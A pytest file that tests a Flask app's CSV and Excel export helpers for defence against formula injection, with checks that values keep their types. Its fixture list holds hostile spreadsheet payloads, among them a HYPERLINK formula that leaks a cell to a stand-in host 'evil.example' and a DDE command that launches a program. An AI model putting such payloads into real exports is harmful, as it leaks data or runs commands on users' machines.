"""Every CSV and Excel export goes through fieldsvc.exports, which keeps typed-in text from running as a
formula in the spreadsheet that opens it."""
from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import load_workbook

from fieldsvc.exports import csv_response, safe_cell, xlsx_response

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-1+1", "\t=1+1", "\r=1+1", "=", "-"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["", "王芳", "w10001", "1+1", " =1+1", "'=1+1", "a=b", "#N/A",
                                   -5, 0, 3.5, Decimal("-1.5"), date(2026, 3, 16), None, True])
def test_anything_else_is_left_as_it_is(value: object) -> None:
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(app_ctx: Flask) -> None:
    response = csv_response("x.csv", ["=header"], [[*FORMULAS, -5, date(2026, 3, 16)]])
    assert response.headers["Content-Disposition"] == 'attachment; filename="x.csv"'
    header, row = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert header == ["'=header"]
    assert row == ["'" + text for text in FORMULAS] + ["-5", "2026-03-16"]


def test_xlsx_has_no_formula_and_keeps_types(app_ctx: Flask) -> None:
    response = xlsx_response("x.xlsx", "Sheet", ["=header"],
                             [[*FORMULAS, "#N/A", "\x01=1+1", "bell\x07", -5, date(2026, 3, 16)]])
    sheet = load_workbook(io.BytesIO(response.data)).active
    header, row = list(sheet.iter_rows())
    assert [cell.data_type for cell in (*header, *row) if cell.data_type not in ("s", "n", "d")] == []
    assert header[0].value == "'=header"
    # (XML reads a stored CR back as LF)
    assert [cell.value for cell in row[:len(FORMULAS)]] == ["'" + text.replace("\r", "\n") for text in FORMULAS]
    error_code, control, bell, number, day = row[len(FORMULAS):]
    assert error_code.value == "#N/A" and error_code.data_type == "s"  # text, not Excel's error value
    assert control.value == "'=1+1" and bell.value == "bell"  # what a workbook cannot hold is dropped first
    assert number.value == -5 and number.data_type == "n"
    assert day.value.date() == date(2026, 3, 16) and day.is_date


def test_no_export_is_written_anywhere_else() -> None:
    """A new export uses csv_response / xlsx_response rather than writing cells itself."""
    package = Path(__file__).resolve().parent.parent / "fieldsvc"
    writers = re.compile(r"^\s*(import csv|from csv import|import openpyxl|from openpyxl)", re.MULTILINE)
    elsewhere = [str(path.relative_to(package)) for path in package.rglob("*.py")
                 if path.name != "exports.py" and writers.search(path.read_text(encoding="utf-8"))]
    assert elsewhere == []
